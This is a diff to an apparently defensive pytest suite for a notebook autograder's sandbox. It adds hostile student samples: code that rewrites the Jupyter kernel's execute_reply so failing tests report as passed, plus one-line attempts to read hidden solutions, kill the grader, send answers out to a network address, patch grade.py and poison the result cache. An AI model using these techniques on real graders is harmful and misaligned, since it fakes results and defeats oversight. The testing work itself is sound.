@@ -59,7 +59,8 @@ def scale(v, k):
     return np.asarray(v, dtype=float) * k
 '''
 
-# The test's own record made unreadable: every later message carrying "DEEPMARK" nests 20,000 deep.
+# The test's own record made unreadable: every later message carrying "DEEPMARK" nests 20,000 deep
+# (the guard restores the session's pack before the test now, and reports it as patched).
 DEEP_RECORD = '''
 session = get_ipython().display_pub.session
 _pack = session.pack
@@ -185,6 +186,36 @@ def square(x):
     return 0
 '''
 
+# The channel the guard once did not watch: the kernel's message session. A wrong answer's failed
+# test is reported to the grader as passed by rewriting the execute_reply on its way out.
+FORGED_REPLY = '''
+session = get_ipython().kernel.session
+_send = type(session).send
+def _forge(self, stream, msg_or_type, content=None, parent=None, *args, **kwargs):
+    if msg_or_type == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
+        content = {"status": "ok", "execution_count": content.get("execution_count"), "user_expressions": {},
+                   "payload": []}
+    return _send(self, stream, msg_or_type, content, parent, *args, **kwargs)
+session.send = _forge.__get__(session)
+def square(x):
+    return 0
+'''
+
+# The same, installed *while the test runs* (by the answer the test calls), after the guard's check.
+FORGED_IN_TEST = '''
+def square(x):
+    session = get_ipython().kernel.session
+    if "send" not in vars(session):
+        _send = type(session).send
+        def _forge(self, stream, msg_or_type, content=None, parent=None, *args, **kwargs):
+            if msg_or_type == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
+                content = {"status": "ok", "execution_count": content.get("execution_count"),
+                           "user_expressions": {}, "payload": []}
+            return _send(self, stream, msg_or_type, content, parent, *args, **kwargs)
+        session.send = _forge.__get__(session)
+    return 0
+'''
+
 # ------------------------------------------------------------ limits per kernel
 
 FORK_BOMB = '''
@@ -247,7 +278,7 @@ hog = bytearray(4 * 2**30)
 ATTACKS: dict[str, tuple[str, dict, dict, str]] = {
     "d_shape_lie": ("named", {"scale": SHAPE_LIE}, {"test_scale": 0}, "disagree"),
     "d_deep_display": ("named", {"scale": DEEP_DISPLAY}, {"test_scale": 3}, "unreadable: a message"),
-    "d_deep_record": ("named", {"scale": DEEP_RECORD}, {"test_scale": 0}, "could not read what this test sent"),
+    "d_deep_record": ("named", {"scale": DEEP_RECORD}, {"test_scale": 0}, "session.pack"),  # (restored before the test)
     "d_bad_record": ("named", {"scale": BAD_RECORD}, {"test_scale": 0}, "could not read your"),
     "d_bad_elements": ("named", {"scale": BAD_ELEMENTS}, {"test_scale": 0}, "elements are not numbers"),
     "d_huge_int": ("named", {"scale": HUGE_INT}, {"test_scale": 0}, "scale("),
@@ -258,6 +289,8 @@ ATTACKS: dict[str, tuple[str, dict, dict, str]] = {
     "k_post_run_hook": ("basics", {"square": POST_RUN}, {"test_square": 0}, "post_run_cell"),
     "k_read_history": ("basics", {"mean": HISTORY}, {"test_mean": 0}, ""),
     "t_traces": ("basics", {"square": TRACES}, {"test_square": 0}, "attempted writing '/etc/tg-pwned'"),
+    "k_forged_reply": ("basics", {"square": FORGED_REPLY}, {"test_square": 0}, "session.send"),
+    "k_forged_in_test": ("basics", {"square": FORGED_IN_TEST}, {"test_square": 0}, "after test 'test_square'"),
     "l_fork_bomb": ("basics", {"square": FORK_BOMB}, {"test_square": 0}, "the process limit"),
     "l_disk_fill": ("basics", {"square": DISK_FILL}, {"test_square": 0}, "the disk limit"),
     "l_many_files": ("basics", {"square": MANY_FILES}, {"test_square": 0}, "2000 files"),
@@ -537,7 +570,7 @@ def test_control_the_input_history_holds_the_hidden_tests_when_they_are_stored(h
 
 def test_blocked_attempts_are_each_reported(hostile):
     (finding,) = [f for f in hostile["by_student"]["t_traces"].integrity if f["kind"] == "attempted"]
-    for trace in ("writing '/etc/tg-pwned'", "writing '/usr/tg-pwned'", "reading '/proc/999999/root/etc/hostname'",
+    for trace in ("writing '/etc/tg-pwned'", "writing '/usr/tg-pwned'", "reading '/proc/<pid>/root/etc/hostname'",
                   "sending signal 0 to process", "connecting to ('10.255.255.1', 9)"):
         assert trace in finding["detail"], finding
     honest = [r for r in hostile["results"] if r.student.startswith("honest")]
@@ -553,3 +586,45 @@ def test_control_without_the_audit_hook_attempts_leave_no_finding(hostile, monke
     sets = load_exercise_sets(hostile["root"] / "solutions", hostile["root"] / "exercises")
     r = grade_submission(Submission("t_traces", str(path)), sets, LIMITS)
     assert not [f for f in r.integrity if f["kind"] == "attempted"], r.integrity
+
+
+# ------------------------------------------------------------ eight blocked attacks, each reported
+
+#: The eight classes of attack the sandbox blocks, one student each: what the answer cell tries,
+#: and what the instructor must read about it (the student's "attempted" finding).
+BLOCKED = {
+    "b_read_solutions": ("open({solution!r}).read()", "reading '{solution}'"),
+    "b_read_through_proc": ("open('/proc/1/root' + {solution!r}).read()", "reading '/proc/<pid>/root"),
+    "b_write_outside": ("open('/etc/tg-owned', 'w').write('x')", "writing '/etc/tg-owned'"),
+    "b_signal_the_grader": ("os.kill(os.getppid(), 9)", "sending signal 9 to process"),
+    "b_connect_out": ("socket.create_connection(('10.255.255.1', 80), timeout=0.2)", "connecting to ('10.255.255.1', 80)"),
+    "b_send_data_out": ("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'answers', ('10.255.255.1', 53))",
+                        "sending data to ('10.255.255.1', 53)"),
+    "b_patch_the_grader": ("open({package!r} + '/grade.py', 'a').write('#')", "writing '{package}/grade.py'"),
+    "b_poison_the_cache": ("open({cache!r} + '/basics.json', 'w').write('{{}}')", "writing '{cache}/basics.json'"),
+}
+
+
+@pytest.fixture(scope="module")
+def blocked(tmp_path_factory):
+    from tensorgrad_course import expected as exp
+
+    root = tmp_path_factory.mktemp("blocked")
+    basics, _ = two_set_course(root)
+    paths = {"solution": str(root / "solutions" / "basics.ipynb"), "cache": str(root / "out" / ".cache"),
+             "package": str(Path(exp.__file__).resolve().parent)}
+    for student, (attempt, _) in BLOCKED.items():
+        code = f"import os, socket\ntry:\n    {attempt.format(**paths)}\nexcept Exception:\n    pass\n"
+        _write(_answered(basics, {**HONEST, "square": code + "def square(x):\n    return 0"}),
+               root / "submissions" / student / "basics.ipynb")
+    results = grade_batch(discover([root / "submissions"]), root / "solutions", root / "exercises", LIMITS, jobs=2,
+                          cache_dir=root / "out" / ".cache")
+    return {"by_student": {r.student: r for r in results}, "paths": paths}
+
+
+@pytest.mark.parametrize("student", sorted(BLOCKED))
+def test_each_of_the_eight_blocked_attacks_is_reported(blocked, student):
+    r = blocked["by_student"][student]
+    assert {t.grade_id: t.points for t in r.tasks}["test_square"] == 0
+    attempted = [f["detail"] for f in r.integrity if f["kind"] == "attempted" and f["tampering"]]
+    assert any(BLOCKED[student][1].format(**blocked["paths"]) in d for d in attempted), r.integrity
